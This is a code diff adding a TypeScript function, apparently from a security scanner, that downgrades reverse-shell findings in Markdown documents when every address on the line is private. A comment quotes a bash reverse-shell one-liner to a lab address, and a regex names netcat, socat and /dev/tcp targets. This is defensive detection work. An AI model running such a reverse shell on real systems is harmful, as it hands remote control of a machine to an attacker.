@@ -1,0 +1,31 @@
+/**
+ * A reverse shell shown in a document and aimed at a private address (`bash -i >&
+ * /dev/tcp/10.10.14.2/4444` in a CTF write-up): no host on the internet can take that
+ * connection, so it is a lab exercise's text, not a complete chain. It goes from critical to
+ * high (a person still reviews it), and only when every address on the line is private (RFC
+ * 1918) and the finding sits in a Markdown document, not a script: a script connecting to the
+ * user's own network keeps its severity, and one public address or host name anywhere on the
+ * line does too.
+ */
+import type { Finding } from "./types.js";
+
+const IPV4 = /\b\d{1,3}(?:\.\d{1,3}){3}\b/g;
+/**
+ * A host name as a target: after /dev/tcp/, in a URL, quoted (`connect(("relay.example", 443))`),
+ * after socat's `TCP:` or as netcat's argument. Not an address, so not provably private.
+ */
+const NAMED_TARGET = /\/dev\/(?:tcp|udp)\/(?!\d{1,3}(?:\.\d{1,3}){3}\/)|:\/\/(?!\d)|["'](?:[a-z0-9-]+\.)+[a-z]{2,}["']|\bTCP[46]?:(?!\d)|\b(?:nc|ncat|netcat|telnet)\b[^\n]*?\s(?:[a-z0-9-]+\.)+[a-z]{2,}\b/i;
+
+function isPrivate(ip: string): boolean {
+  const [a, b] = ip.split(".").map(Number) as [number, number];
+  return a === 10 || (a === 172 && b >= 16 && b <= 31) || (a === 192 && b === 168);
+}
+
+export function capLabReverseShells(findings: Finding[]): Finding[] {
+  return findings.map((f) => {
+    if (f.category !== "reverse-shell" || f.severity !== "critical" || !/\.(?:md|markdown|mdx)$/i.test(f.file)) return f;
+    const ips = f.evidence.match(IPV4) ?? [];
+    if (ips.length === 0 || !ips.every(isPrivate) || NAMED_TARGET.test(f.evidence)) return f;
+    return { ...f, severity: "high", demoted: "a reverse shell to a private address, shown in a document: no internet host can take it" };
+  });
+}
